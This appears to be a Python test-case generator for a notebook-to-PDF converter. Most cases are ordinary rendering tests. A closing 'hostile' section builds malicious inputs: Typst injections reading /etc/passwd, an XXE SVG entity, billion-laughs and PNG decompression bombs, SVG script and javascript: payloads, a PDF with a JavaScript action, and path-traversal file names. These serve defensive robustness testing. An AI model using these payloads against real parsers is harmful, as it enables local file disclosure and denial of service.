@case("60_output_of_updates", text=["first table", "4 of 4 folds", "kept after it"], images=1)
def output_of_updates(book):
    """Outputs as displays that were updated leave them, and isolated or expanded by metadata."""
    book.code("fold();", shown({"text/plain": "4 of 4 folds"}), stream("kept after it\n"))
    book.code("isolated();", shown({"text/html": "<p>first table</p>"}, **{"text/html": {"isolated": True}}))
    book.code(
        "drawn();",
        shown({"image/svg+xml": curve_svg("Isolated", [0.2, 0.9])}, **{"image/svg+xml": {"isolated": True}}),
        scrolled=True,
    )


# ----------------------------------------------------------------------------------------------------- what is hidden


@case(
    "61_tags",
    text=[
        "walnut1", "walnut2", "sesame3", "sesame4", "walnut5", "walnut6", "sesame7", "sesame8", "sesame0", "walnut0",
        "kept prose", "sesame9", "walnut9",
    ],
    not_text=[
        "sesame1", "sesame2", "walnut3", "walnut4", "sesame5", "sesame6", "walnut7", "walnut8", "gonecell", "goneprose",
    ],
)
def tags(book):
    """Of a cell with number n, `sesame n` is the input and `walnut n` the output."""

    def cell(number, *names):
        book.code(
            f"let sesame{number} = {number};", stream(f"walnut{number}\n"), **({"tags": list(names)} if names else {})
        )

    cell(0)
    book.code("let gonecell = 1;", stream("gonecell\n"), tags=["remove_cell"])
    book.code("let gonecell = 2;", stream("gonecell\n"), tags=["other", "remove-cell"])
    book.markdown("goneprose", tags=["remove_cell"])
    book.markdown("goneprose", tags=["remove-cell"])
    book.markdown("kept prose", tags=["parameters"])
    for number, tag in enumerate(
        [
            "hide_input", "hide-input", "hide_output", "hide-output", "remove_input", "remove-input", "remove_output",
            "remove-output",
        ],
        1,
    ):
        cell(number, tag)
    cell(9, "parameters", "some other tag", "remove", "hide")


@case(
    "62_hidden",
    text=["almond1", "pepper2", "almond4", "pepper4", "almond5", "pepper5"],
    not_text=["pepper1", "almond2", "pepper3", "almond3"],
)
def hidden(book):
    """What JupyterLab has collapsed: `pepper n` is the input of a cell and `almond n` the output."""

    def cell(number, **metadata):
        book.code(f"let pepper{number} = {number};", stream(f"almond{number}\n"), **metadata)

    cell(1, jupyter={"source_hidden": True})
    cell(2, jupyter={"outputs_hidden": True})
    cell(3, jupyter={"source_hidden": True, "outputs_hidden": True})
    cell(4, jupyter={"source_hidden": False, "outputs_hidden": False})
    cell(5, scrolled=False, trusted=True)


@case(
    "63_raw_cells",
    text=["raw without a format", "raw as plain text", "raw as a page", "the last cell", "#show: raw is raw"],
)
def raw_cells(book):
    book.raw("raw without a format\n  keeps   its spaces *and stars*\n#show: raw is raw")
    book.raw("raw as plain text", raw_mimetype="text/plain")
    book.raw("<em>raw as a page</em>", raw_mimetype="text/html")
    book.raw("\\textbf{raw for a typesetter}", raw_mimetype="text/latex")
    book.raw(".. note:: for another tool", format="text/restructuredtext")
    book.raw("raw as *Markdown*", format="text/markdown")
    book.raw("")
    book.markdown("the last cell")


# --------------------------------------------------------------------------------------------------- whole notebooks


@case(
    "64_title_authors",
    text=["Shrinkage & sparsity: a tour", "Ada Beispiel", "Bo Muster", "14 March 2026", "First heading"],
)
def title_authors(book):
    book = Notebook(
        title="Shrinkage & sparsity: a tour", authors=[{"name": "Ada Beispiel"}, {"name": "Bo Muster"}],
        date="14 March 2026",
    )
    book.markdown("## First heading\n\nText.")
    book.code("let x = 1;")
    return book


@case(
    "65_problem_set",
    text=[
        "Problem 1", "Problem 2", "Problem 3", "Problem 4", "Problem 5", "(a)", "(b)", "(c)", "Problem set 4",
        "Solution", "slope = 1.97", "never got to this", "singular", "Discussion of everything",
    ],
    not_text=["\\hat", "$", "plain fallback"],
    images=4,
    warnings=["never-run", "error", "no-output"],
    min_pages=2,
)
def problem_set(book):
    book = Notebook(title="Problem set 4", authors=[{"name": "Ada Beispiel"}])
    book.markdown("# Problem set 4\n\n**Course:** Statistical learning  \n**Due:** before the lecture")
    book.code(PRELUDE)
    book.code("let seed: i64 = 4; // of the made-up numbers", tags=["parameters"])
    book.markdown(
        "# Problem 1\n\nA line through points.\n\n## (a)\n\nFind the slope $\\hat{\\beta}$ that minimises $$\\sum_{i=1}^n (y_i - \\beta x_i)^2.$$"
    )
    book.markdown("**Solution.** The derivative vanishes at $\\hat{\\beta} = \\frac{\\sum x_i y_i}{\\sum x_i^2}$.")
    book.code('let slope = dot(&x, &y) / dot(&x, &x);\nprintln!("slope = {slope:.2}");', stream("slope = 1.97\n"))
    book.markdown("## (b)\n\nDraw the residuals.")
    book.code(
        'BarChart::new("Residuals").bars(&residuals)',
        result({"image/svg+xml": bar_svg("Residuals", [4, 2, 6, 3, 5, 1]), "text/plain": "plain fallback"}),
    )
    book.markdown(
        "# Problem 2\n\nRidge regression.\n\n## (a)\n\nShow that the solution is unique.\n\n> For $\\lambda > 0$ the matrix $X^\\top X + \\lambda I$ is positive definite. $\\square$\n\n## (b)"
    )
    book.code(
        "path.frame()?",
        result(
            {
                "text/html": frame_html(
                    ["lambda", "loss"], ["f64", "f64"], [("0.1", "0.31"), ("1.0", "0.29"), ("10", "0.44")]
                ),
                "text/plain": "plain fallback",
            }
        ),
    )
    book.code(
        'LineChart::new("Path").line(&path)',
        result({"image/svg+xml": curve_svg("Path", [0.9, 0.5, 0.3, 0.25, 0.4, 0.7]), "text/plain": "plain fallback"}),
    )
    book.markdown(
        "# Problem 3\n\n## (a)\n\n## (b)\n\n## (c)\n\n| part | points |\n|:-----|-------:|\n| (a) | 3 |\n| (b) | 4 |"
    )
    book.code(
        'Histogram::new("Bootstrap").values(&draws)',
        result(
            {"image/png": bar_png(640, 400, 20, 5), "text/plain": "plain fallback"},
            **{"image/png": {"height": 200, "width": 320}},
        ),
    )
    book.code("draws.quantile(0.9)")
    book.markdown("# Problem 4")
    book.code('let never = "never got to this";', run=False)
    book.markdown("# Problem 5\n\n![sketch](images/bars.png)")
    book.code(
        "covariance.inverse()?",
        error("Error", "the matrix is singular", ["\x1b[31mError:\x1b[0m the matrix is singular"]),
    )
    book.markdown("# Discussion of everything\n\nNone so far.")
    return book


@case(
    "66_not_executed",
    text=["Nothing was run", "let first = 1;", "let last = first + 2;", "first + last"],
    warnings=["not-executed"],
)
def not_executed(book):
    book.markdown("# Nothing was run")
    for source in [PRELUDE, "let first = 1;", "let last = first + 2;", "first + last"]:
        book.code(source, run=False)


@case("67_empty")
def empty(book):
    """No cells at all."""


@case("68_empty_cells", text=["the only words"])
def empty_cells(book):
    book.markdown("")
    book.code("", run=False)
    book.raw("")
    book.exact("\n\n  \n")
    book.markdown("the only words")
    book.code([], run=False)


@case("69_only_markdown", text=["Only prose", "second cell", "third cell"])
def only_markdown(book):
    book.markdown("# Only prose\n\nNo code anywhere.")
    book.markdown("The second cell.")
    book.markdown("The third cell.")


@case(
    "70_python",
    text=[
        "import numpy as np", "def sharpe(returns, rate=0.0):", "lambda x: x ** 2", "0.7071", "@dataclass",
        "ZeroDivisionError", 'f"{ratio:.4f}"',
    ],
    not_text=["<Figure size"],
    images=1,
    warnings=["error"],
)
def python(book):
    book = Notebook(PYTHON)
    book.code("%matplotlib inline\nimport numpy as np\nimport matplotlib.pyplot as plt")
    book.code(
        'def sharpe(returns, rate=0.0):\n    """Excess mean over deviation."""\n    return (np.mean(returns) - rate) / np.std(returns)'
    )
    book.code("x = 3")
    book.code("square = lambda x: x ** 2  # ends in an expression, shows nothing")
    book.code("from dataclasses import dataclass\n\n@dataclass\nclass Fold:\n    loss: float = 0.5")
    book.code('ratio = sharpe([1, 2, 3, 4])\nprint(f"{ratio:.4f}")', stream("0.7071\n"))
    book.code(
        "plt.bar(range(5), [3, 1, 4, 1, 5]);\nplt.show()",
        shown({"image/png": bar_png(300, 200, 5, 3), "text/plain": "<Figure size 640x480 with 1 Axes>"}),
    )
    book.code(
        "1 / 0",
        error(
            "ZeroDivisionError",
            "division by zero",
            [
                "\x1b[31m---------------------------------------------------------------------------\x1b[39m",
                "\x1b[31mZeroDivisionError\x1b[39m                         Traceback (most recent call last)",
                "\x1b[36mCell\x1b[39m\x1b[36m \x1b[39m\x1b[32mIn[8]\x1b[39m\x1b[32m, line 1\x1b[39m\n\x1b[32m----> \x1b[39m\x1b[32m1\x1b[39m \x1b[32m1\x1b[39m / \x1b[32m0\x1b[39m",
                "\x1b[31mZeroDivisionError\x1b[39m: division by zero",
            ],
        ),
    )
    return book


@case("71_no_kernelspec", text=["let unknown_language = 1;", "as it is", "result 5"])
def no_kernelspec(book):
    book = Notebook({})
    book.markdown("Shown as it is.")
    book.code("let unknown_language = 1;")
    book.code("unknown_language + 4", result("result 5"))
    return book


@case("72_right_to_left", text=["mean = 3.5", "Latin before", "Latin after"], text_with_fonts=["שלום", "ממוצע"])
def right_to_left(book):
    book.markdown(
        "# ממוצע\n\nשלום לכולם, זה טקסט מימין לשמאל עם Latin words באמצע.\n\nالمتوسط الحسابي هو مجموع القيم مقسوم على عددها.\n\nLatin before שלום and Latin after."
    )
    book.markdown(
        '- פריט ראשון\n- פריט שני\n\n| ממוצע | שונות |\n|---|---|\n| 3.5 | 1.2 |\n\n<div dir="rtl">טקסט ב־HTML</div>'
    )
    book.code('println!("mean = 3.5 ממוצע");', stream("mean = 3.5 ממוצע\n"))


@case(
    "73_deep_list",
    text=["level 01", "level 07", "level 10", "level 15", "level 20", "numbered 01", "numbered 12", "back out"],
)
def deep_list(book):
    book.markdown("\n".join("  " * (level - 1) + f"- level {level:02}" for level in range(1, 21)) + "\n- back out")
    book.markdown("\n".join("   " * (level - 1) + f"1. numbered {level:02}" for level in range(1, 13)))


@case(
    "74_windows_lines",
    text=["Windows heading", "second paragraph", "let after = 2;", "printed line two", "item two", "old Mac line"],
    not_text=["^M"],
)
def windows_lines(book):
    book.exact(
        "# Windows heading\r\n\r\nA first paragraph\r\nin two lines.\r\n\r\nThe second paragraph.\r\n\r\n- item one\r\n- item two\r\n\r\n```rust\r\nlet fenced = 1;\r\n```\r\n"
    )
    book.code(
        "let before = 1;\r\nlet after = 2;\r\nprintln!();", stream("printed line one\r\nprinted line two\r\n"),
        exact=True,
    )
    book.code(['let old = 1;\rlet mac = "old Mac line";'], stream("x\n"))


@case(
    "75_source_forms",
    text=[
        "One string", "of two lines", "let listed = 1;", "broken in odd places", "string output", "list output",
        "html in a list",
    ],
    images=1,
)
def source_forms(book):
    """Text as one string, as a list of lines, and as a list that breaks in odd places."""
    book.add("markdown", "x", {})["source"] = "One string\n\nof two lines."
    book.add("markdown", "x", {})["source"] = ["bro", "ken in", " odd", " places", "\n\n", "- b", "ar\n- foo"]
    book.code(["let lis", "ted = 1;", "\n", "let next = 2;"])
    book.code("let string = 1;", stream("string output\n", whole=True))["source"] = "let string = 1;"
    book.code("2", {"output_type": "stream", "name": "stdout", "text": ["list ", "output", "\n"]})
    html = result({"text/html": "x"})
    html["data"]["text/html"] = ["<p>html ", "in a ", "list</p>"]
    book.code("html", html)
    drawing = result({"image/svg+xml": "x"})
    drawing["data"]["image/svg+xml"] = bar_svg("In one string", [1, 3, 2])
    book.code("drawing", drawing)


# ------------------------------------------------------------------------------------------------------- old formats


@case(
    "76_format_3",
    text=[
        "Title of a version 3", "Second heading", "print 1 + 1", "to stdout", "a result of 3", "NameError", "raw words",
        "markup words", "prose words", "html cell",
    ],
    not_text=["[31m", "<i>"],
    images=1,
    warnings=["error", "never-run"],
)
def format_3(book):
    def old_code(source, number, *outputs):
        cell = {
            "cell_type": "code",
            "collapsed": False,
            "input": lines(source),
            "language": "python",
            "metadata": {},
            "outputs": list(outputs),
        }
        return {**cell, "prompt_number": number} if number else cell

    cells = [
        {"cell_type": "heading", "level": 1, "metadata": {}, "source": ["Title of a version 3 notebook"]},
        {"cell_type": "markdown", "metadata": {}, "source": ["Some *prose words*.\n", "\n", "## Not the second"]},
        {"cell_type": "heading", "level": 2, "metadata": {}, "source": ["Second heading"]},
        old_code("print 1 + 1", 1, {"output_type": "stream", "stream": "stdout", "text": ["to stdout\n"]}),
        old_code("3", 2, {"output_type": "pyout", "metadata": {}, "prompt_number": 2, "text": ["a result of 3"]}),
        old_code(
            "draw()",
            3,
            {"output_type": "display_data", "metadata": {}, "png": text_of(bar_png(160, 100)), "text": ["<figure>"]},
        ),
        old_code(
            "table()",
            4,
            {
                "output_type": "pyout",
                "metadata": {},
                "prompt_number": 4,
                "html": ["<b>markup words</b>"],
                "text": ["plain"],
            },
        ),
        old_code(
            "nobody",
            5,
            {
                "output_type": "pyerr",
                "ename": "NameError",
                "evalue": "name is not defined",
                "traceback": ["\x1b[31mNameError\x1b[0m: name is not defined"],
            },
        ),
        {"cell_type": "raw", "metadata": {}, "source": ["raw words"]},
        {"cell_type": "html", "metadata": {}, "source": ["<i>html cell</i>"]},
        old_code("never_run = 1", None),
    ]
    return {
        "metadata": {"name": "old notebook"},
        "nbformat": 3,
        "nbformat_minor": 0,
        "worksheets": [{"cells": cells, "metadata": {}}],
    }


def older(minor):
    """The same small notebook in format 4.0 to 4.4, with what each of them brought."""
    book = Notebook()
    book.markdown(f"# Format 4.{minor}\n\nSome *prose words*.")
    book.code("1 + 1", result("2 is two"))
    book.code('println!("printed words");', stream("printed words\n"))
    book.code("figure", result({"image/png": bar_png(160, 100, 6, minor), "text/plain": "<figure>"}))
    if minor >= 1:
        book.markdown(
            "![bars](attachment:bars.png)", attachments={"bars.png": {"image/png": text_of(bar_png(100, 60, 4, minor))}}
        )
        book.code(
            "settings",
            result(
                {
                    "application/json": {"rounds": 12},
                    "application/vnd.custom+json": {"a": [1, None]},
                    "text/plain": "rounds: 12",
                }
            ),
        )
    if minor >= 3:
        book.code("let unseen_source = 1;", stream("seen output\n"), jupyter={"source_hidden": True})
    if minor >= 4:
        book.code("let timed = 1;", execution={"iopub.status.busy": "2026-01-05T09:30:00.000000Z"})
    book.raw("raw words", format="text/plain")
    out = {**book.json(), "nbformat_minor": minor}
    for cell in out["cells"]:
        del cell["id"]
        if cell["cell_type"] == "code" and minor == 0:
            cell["metadata"]["collapsed"] = False
    if minor == 0:
        out["metadata"]["orig_nbformat"] = 3
    return out


for _minor in range(5):
    case(
        f"{77 + _minor}_format_4_{_minor}",
        text=[f"Format 4.{_minor}", "prose words", "2 is two", "printed words", "raw words"]
        + (["seen output"] if _minor >= 3 else []),
        not_text=["<figure>"] + (["unseen_source"] if _minor >= 3 else []),
        images=2 if _minor >= 1 else 1,
    )(lambda book, minor=_minor: older(minor))


# ---------------------------------------------------------------------------------------------------------- and more


@case(
    "82_typst_signs",
    text=[
        "#let x = 1", "@someone", "*literal*", "<label>", "= not a heading", "~tilde~", "#[derive(Debug)]", "`ticks`",
        "https://example.com//x", "#panic(1)", "a_b_c", "[bracket]", "{brace}", "end of signs",
    ],
)
def typst_signs(book):
    """Signs that mean something to a typesetter and nothing to Markdown."""
    book.markdown(r"""
        #let x = 1 and @someone and \*literal\* and &lt;label&gt; and a_b_c and \[bracket\] and {brace} and \~tilde\~

        = not a heading

        / term: not a list

        \- not an item, // not a comment, https://example.com//x, /* nor this */
    """)
    book.code("#[derive(Debug)]\nstruct Signs; // #panic(1) @ref <label> $ \\ _ * ~ ]")
    book.code("signs();", stream("#panic(1) `ticks` = + - / @ref <label> $ _ * ~ \\ ] [ { } // /* */ \\u{41}\n"))
    book.markdown("end of signs")


@case(
    "83_character_mix",
    text=["hyphenated", "accents", "dashes", "the end"],
    text_with_fonts=["naïve café", "Łódź", "Ω", "→", "№ 7", "mathbf"],
)
def character_mix(book):
    book.exact(
        "soft\u00adly hyphenated, accents: naïve café, Łódź, Þórr, Ω µ Å\n\ndashes – — … “double” ‘single’ «angled» „low“ → ⇒ ≤ ≠ № 7\n\n`mathbf` 𝐱 𝔼 ℝ, 日本語 中文 한국어, 🦀 🎉 :crab:\n\nzero\u200bwidth, non\u00a0breaking, bell\u2407\n\nthe end"
    )


@case("84_long_prose", text=["opening words", "s001", "s040", "s080", "s120", "closing words"], min_pages=2)
def long_prose(book):
    sentences = [
        f"In sentence s{index:03} nothing is estimated, since it only fills the page with words."
        for index in range(1, 121)
    ]
    book.markdown(
        "opening words: "
        + " ".join(sentences[:40])
        + "\n\n"
        + " ".join(sentences[40:80])
        + "\n\n"
        + " ".join(sentences[80:])
        + " closing words"
    )


@case("85_table_over_pages", text=["rank", "n001", "n050", "n099", "n150", "after the table"], min_pages=2)
def table_over_pages(book):
    book.markdown("| rank | name |\n|---:|:---|\n" + "\n".join(f"| {index} | n{index:03} |" for index in range(1, 121)))
    rows = [(f"n{index:03}", f"{index / 7:.2f}") for index in range(121, 151)]
    book.code(
        "frame", result({"text/html": frame_html(["name", "value"], ["str", "f64"], rows), "text/plain": "frame"})
    )
    book.markdown("after the table")


# ---------------------------------------------------------------------------------------------------------- hostile


def hostile(name, value, result="page", not_text=(), **more):
    save(f"hostile/{name}.ipynb", value)
    assert all(kind in WARNINGS for kind in more.get("warnings", ()))
    EXPECTED[f"hostile/{name}.ipynb"] = {"result": result, "not_text": [LEAK, *not_text], **more}


def ordinary(*cells):
    """A small notebook in plain JSON, to be broken; cells are added before the last one."""
    book = Notebook()
    book.markdown("# Before")
    book.code("let x = 1;", stream("seven\n"))
    out = book.json()
    out["cells"] += cells
    out["cells"].append({"cell_type": "markdown", "id": "last", "metadata": {}, "source": ["after it"]})
    return out


def code_cell(source="let y = 2;", outputs=(), **fields):
    return {
        "cell_type": "code",
        "id": "made",
        "metadata": {},
        "execution_count": 2,
        "source": source,
        "outputs": list(outputs),
        **fields,
    }


def text_cell(source, **fields):
    return {"cell_type": "markdown", "id": "made", "metadata": {}, "source": source, **fields}


def with_output(data, **metadata):
    return ordinary(code_cell("figure", [{"output_type": "display_data", "data": data, "metadata": metadata}]))


TYPST = [
    '#read("/etc/passwd")', '#include "/etc/passwd"', '#image("/etc/passwd")', '#import "@preview/cetz:0.1.0"',
    '$ #read("x") $', "]#panic()[", ")#panic()(", "}#panic(){", '"#panic()"', '" + panic() + "',
    "\\u{22}#panic()\\u{22}", "\\#panic()", "\\\\#panic()", "`#panic()`", "```#panic()```", "*/ #panic() /*",
    "#set page(width: 1pt)", '#eval("panic()")', '#plugin("/etc/passwd")', "<label> @label @nowhere",
    "#let text = none; #show: none", "#{ while true {} }", "*unclosed _unclosed $unclosed",
]
TYPST_TEXT = ["panic()", "set page(width: 1pt)"]


def hostile_files():
    """Not a notebook, or not quite."""
    whole = json.dumps(ordinary(), indent=1)
    hostile("h01_truncated", whole[: len(whole) * 2 // 3], "error")
    hostile("h02_empty_file", b"", "error")
    hostile("h03_not_json", "let x = 1; // this is no notebook\n", "error")
    hostile("h04_list", "[1, 2, 3]\n", "error")
    hostile("h05_number", "42\n", "error")
    hostile("h06_null", "null\n", "error")
    hostile("h07_empty_object", "{}\n", "either")
    hostile(
        "h08_not_utf8", b'{"cells": [], "metadata": {"title": "caf\xe9"}, "nbformat": 4, "nbformat_minor": 5}\n',
        "either",
    )
    hostile("h09_utf16", whole.encode("utf-16"), "either")
    hostile("h10_byte_order_mark", b"\xef\xbb\xbf" + whole.encode(), "either")
    hostile(
        "h11_deep_json",
        '{"cells": ' + "[" * 9000 + "]" * 9000 + ', "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
        "either",
    )
    hostile("h12_not_a_number", whole.replace('"execution_count": 1', '"execution_count": NaN'), "either")
    hostile("h13_two_notebooks", whole + whole, "error")
    hostile(
        "h14_same_key_twice", whole.replace('"nbformat": 4', '"nbformat": 4,\n "nbformat": 4,\n "cells": []'), "either"
    )
    hostile("h15_only_nul", b"\0" * 300, "error")

    hostile(
        "h16_format_2",
        {
            "metadata": {"name": "x"},
            "nbformat": 2,
            "worksheets": [{"cells": [{"cell_type": "code", "input": "1", "language": "python", "outputs": []}]}],
        },
        "either",
    )
    hostile("h17_format_99", {**ordinary(), "nbformat": 99}, "error")
    hostile("h18_format_minor_99", {**ordinary(), "nbformat_minor": 99}, "either")
    without = ordinary()
    del without["nbformat"], without["nbformat_minor"]
    hostile("h19_format_missing", without, "either")
    hostile("h20_format_a_string", {**ordinary(), "nbformat": "4"}, "either")
    hostile("h21_format_negative", {**ordinary(), "nbformat": -4, "nbformat_minor": 1e300}, "either")
    hostile(
        "h22_old_worksheets_wrong",
        {"metadata": {}, "nbformat": 3, "nbformat_minor": 0, "worksheets": {"cells": "none"}},
        "either",
    )


def hostile_types():
    """Fields of the wrong type."""
    hostile("h23_cells_an_object", {**ordinary(), "cells": {"cell_type": "code"}}, "either")
    hostile(
        "h24_cells_of_everything",
        {**ordinary(), "cells": [None, 1, "text", [], {}, True, {"cell_type": None}, {"cell_type": "code"}]},
        "either",
    )
    hostile(
        "h25_source_a_number",
        ordinary(text_cell(42), code_cell(4.2), text_cell(None), text_cell({"a": 1}), text_cell([1, None, "x"])),
        "either",
    )
    hostile(
        "h26_outputs_null",
        ordinary(
            code_cell(outputs=[]) | {"outputs": None}, code_cell() | {"outputs": "none"},
            code_cell() | {"outputs": {"0": 1}}, code_cell(outputs=[None, 7, "x", []]),
        ),
        "either",
    )
    hostile(
        "h27_data_a_string",
        ordinary(
            code_cell(
                outputs=[
                    {"output_type": "display_data", "data": "text", "metadata": {}},
                    {"output_type": "execute_result", "data": None, "metadata": None},
                    {"output_type": "display_data", "data": ["text/plain"], "metadata": []},
                ]
            )
        ),
        "either",
    )
    hostile("h28_metadata_null", {**ordinary(), "metadata": None}, "either")
    hostile(
        "h29_metadata_a_list",
        {**ordinary(text_cell("x", metadata=["tags"]), code_cell(metadata="tags")), "metadata": [1, 2]},
        "either",
    )
    hostile(
        "h30_metadata_odd",
        {
            **ordinary(),
            "metadata": {
                "kernelspec": "rust",
                "language_info": ["rust"],
                "title": ["a", {"b": 1}],
                "authors": "Ada",
                "date": {"year": 1},
            },
        },
        "either",
    )
    hostile(
        "h31_authors_odd",
        {
            **ordinary(),
            "metadata": {
                "title": 42,
                "authors": [None, 1, {"name": None}, {"name": ["x"]}, {}, "Bo"],
                "author": {"name": {}},
            },
        },
        "either",
    )
    hostile(
        "h32_count_a_string",
        ordinary(
            code_cell(execution_count="two"), code_cell(execution_count=-1), code_cell(execution_count=1.5),
            code_cell(execution_count=10**30), code_cell(execution_count=[1]), code_cell(execution_count="*"),
        ),
        "either",
    )
    hostile(
        "h33_tags_a_string",
        ordinary(
            code_cell(metadata={"tags": "remove_cell"}),
            code_cell(metadata={"tags": {"hide_input": True}}),
            code_cell(metadata={"tags": [1, None, ["hide_input"]], "jupyter": "hidden"}),
            code_cell(metadata={"jupyter": {"source_hidden": "yes"}}),
        ),
        "either",
    )
    nested = [["deep", ["er", ["est"]]], "x", 3]
    hostile(
        "h34_text_nested",
        ordinary(
            text_cell(nested),
            code_cell(
                nested,
                [
                    {"output_type": "stream", "name": "stdout", "text": nested},
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/plain": nested, "text/html": {"a": nested}},
                    },
                    {"output_type": "stream", "name": ["stdout"], "text": 5},
                ],
            ),
        ),
        "either",
    )
    hostile(
        "h35_cell_type_unknown",
        ordinary(
            {"cell_type": "diagram", "id": "x", "metadata": {}, "source": ["strange words"]},
            {"id": "y", "metadata": {}, "source": "no type"},
        ),
        "either",
    )
    hostile(
        "h36_output_type_unknown",
        ordinary(
            code_cell(
                outputs=[{"output_type": "hologram", "data": {"text/plain": "strange words"}}, {"text": "no type"}]
            )
        ),
        "either",
    )
    hostile(
        "h37_errors_odd",
        ordinary(
            code_cell(
                outputs=[
                    {"output_type": "error"},
                    {"output_type": "error", "ename": None, "evalue": 3, "traceback": "one string"},
                    {"output_type": "error", "ename": ["x"], "evalue": {}, "traceback": [1, None, ["x"]]},
                ]
            )
        ),
        "either",
    )
    hostile(
        "h38_attachments_odd",
        ordinary(
            text_cell(
                "![x](attachment:x.png) ![y](attachment:y.png)",
                attachments={"x.png": "text", "y.png": {"image/png": 5, "image/jpeg": None}},
            ),
            text_cell("![x](attachment:x.png)", attachments=["x.png"]),
        ),
        "either",
    )
    sizes = [{"width": value, "height": value} for value in (-5, 0, 1e300, "50%", None, [1], 10**9)]
    pictures = [
        {
            "output_type": "display_data",
            "data": {"image/png": text_of(bar_png(40, 30, 3))},
            "metadata": {"image/png": size},
        }
        for size in sizes
    ]
    hostile("h39_sizes_odd", ordinary(code_cell(outputs=pictures)), "page", text=["after it"])
    twins = ordinary(
        text_cell("twin one", id="same"), text_cell("twin two", id="same"), text_cell("odd", id=5),
        text_cell("odder", id='"]#panic()['),
    )
    hostile("h40_ids_odd", twins, "either")


def hostile_pictures():
    """Pictures that are not what they say."""
    good = bar_png(60, 40, 4)
    fine = {"text": ["after it"], "warnings": ["broken-image"]}
    hostile("h41_base64_invalid", with_output({"image/png": "%%% not base64 %%%"}), **fine)
    hostile("h42_base64_cut", with_output({"image/png": text_of(good)[:-7]}), text=["after it"])
    hostile("h43_png_truncated", with_output({"image/png": text_of(good[: len(good) // 2])}), text=["after it"])
    hostile("h44_png_is_text", with_output({"image/png": text_of(b"hello, no picture"), "image/jpeg": ""}), **fine)
    hostile("h45_png_is_jpeg", with_output({"image/png": SMALL_JPEG}), text=["after it"])
    hostile(
        "h46_png_lies_about_size",
        with_output({"image/png": text_of(png(8, 8, lambda y: b"\1\2\3" * 8, claim=(60000, 60000)))}),
        text=["after it"],
    )
    hostile(
        "h47_png_no_size", with_output({"image/png": text_of(png(8, 8, lambda y: b"\1\2\3" * 8, claim=(0, 0)))}), **fine
    )
    bomb = png(4000, 4000, lambda y: bytes(4000), 3, PALETTE)
    hostile("h48_png_bomb", with_output({"image/png": text_of(bomb)}), text=["after it"])
    hostile(
        "h49_jpeg_broken", with_output({"image/jpeg": text_of(base64.b64decode(SMALL_JPEG)[:200])}), text=["after it"]
    )
    hostile("h50_gif_broken", with_output({"image/gif": text_of(b"GIF89a\xff\xff\xff\xff\x80\0\0")}), **fine)
    hostile(
        "h51_pdf_as_picture",
        with_output(
            {"application/pdf": text_of(b"%PDF-1.7\n1 0 obj <</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n")}
        ),
        text=["after it"],
    )


def hostile_drawings():
    """SVG that is broken, or reaches out."""

    def drawing(name, source, **more):
        hostile(name, with_output({"image/svg+xml": source}), **{"text": ["after it"], **more})

    drawing("h52_svg_not_xml", "<svg width=100 <<< & no", warnings=["broken-image"])
    drawing("h53_svg_empty", "", text=["after it"])
    link = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
    drawing(
        "h54_svg_names_files",
        svg(
            '<image href="file:///etc/passwd" width="50" height="50"/>\n<image xlink:href="/etc/passwd" width="50" height="50"/>\n'
            '<image href="../outside.png" width="50" height="50"/>\n<image href="http://example.com/x.png" width="9" height="9"/>\n'
            '<use href="file:///etc/passwd#x"/>\n<rect width="20" height="20"/>\n',
            more=f" {link}",
        ),
        not_html=["file:///etc/passwd"],
    )
    entity = '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY leak SYSTEM "file:///etc/passwd">]>\n'
    drawing("h55_svg_entity_of_a_file", entity + svg('<text x="10" y="40">&leak;</text>\n'))
    laughs = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">\n' for level in range(1, 10))
    drawing(
        "h56_svg_laughs",
        f'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY l0 "lol">\n{laughs}]>\n'
        + svg('<text x="10" y="40">&l9;</text>\n'),
    )
    drawing("h57_svg_huge", svg('<rect width="100" height="100"/>\n', "1e9", "1e9", "0 0 1e12 1e12"))
    drawing("h58_svg_no_size", svg('<rect width="100" height="100"/>\n', 0, 0, "0 0 0 0"))
    drawing("h59_svg_bad_size", svg('<rect width="NaN" height="-5"/>\n', "NaN", "-100%", "a b c d"))
    drawing(
        "h60_svg_script",
        svg(
            '<script>alert("evil")</script>\n<rect width="90" height="90" onload="evil()"/>\n<a href="javascript:evil()"><text y="20">x</text></a>\n'
            '<foreignObject width="90" height="90"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file:///etc/passwd"/></foreignObject>\n'
            '<style>@import url("http://example.com/x.css"); rect { fill: url(http://example.com/y.svg#z) }</style>\n'
        ),
        not_html=["<script>alert", "<iframe", 'onload="evil', "javascript:evil"],
    )
    drawing(
        "h61_svg_uses_itself", svg('<g id="a"><use href="#b"/></g>\n<g id="b"><use href="#a"/><use href="#a"/></g>\n')
    )
    doubling = "".join(
        f'<g id="g{level}"><use href="#g{level - 1}"/><use href="#g{level - 1}"/></g>\n' for level in range(1, 31)
    )
    drawing(
        "h62_svg_doubles", svg(f'<defs><rect id="g0" width="9" height="9"/>\n{doubling}</defs>\n<use href="#g30"/>\n'),
        warnings=["broken-image"],
    )
    tile = '<rect class="c{level}" width="9" height="9"/>'
    patterns = "".join(
        f'<pattern id="p{level}" width="9" height="9">{tile.format(level=level) * 2}</pattern>\n' for level in range(1, 31)
    )
    fills = "".join(f".c{level} {{ fill: url(#p{level - 1}) }}\n" for level in range(1, 31))
    drawing(
        "h93_svg_patterns_of_patterns",
        svg(f'<style>{fills}</style>\n{patterns}<rect width="90" height="90" fill="url(#p30)"/>\n'),
        warnings=["broken-image"],
    )
    drawing("h63_svg_deep", svg("<g>" * 3000 + "</g>" * 3000 + "\n"))
    drawing(
        "h64_svg_filters",
        svg(
            '<filter id="f"><feTurbulence numOctaves="99999"/><feGaussianBlur stdDeviation="1e9"/><feMorphology radius="1e9"/></filter>\n<rect width="90" height="90" filter="url(#f)" stroke-dasharray="0.0001" stroke="#000"/>\n'
        ),
    )


def hostile_paths():
    """Names of files that lead elsewhere."""
    save("outside.png", bar_png(60, 40, 4, 2))
    save("hostile/images/inside.png", bar_png(60, 40, 4, 3))
    names = [
        "../../etc/passwd", "/etc/passwd", "..\\..\\outside.png", "a\0b.png", 'quo"te.png', "']#panic()[.png",
        "<img onerror=evil()>.png", "", ".", "C:\\x.png", "CON", "x" * 300 + ".png", "a/b/c.png", "\u202egnp.exe",
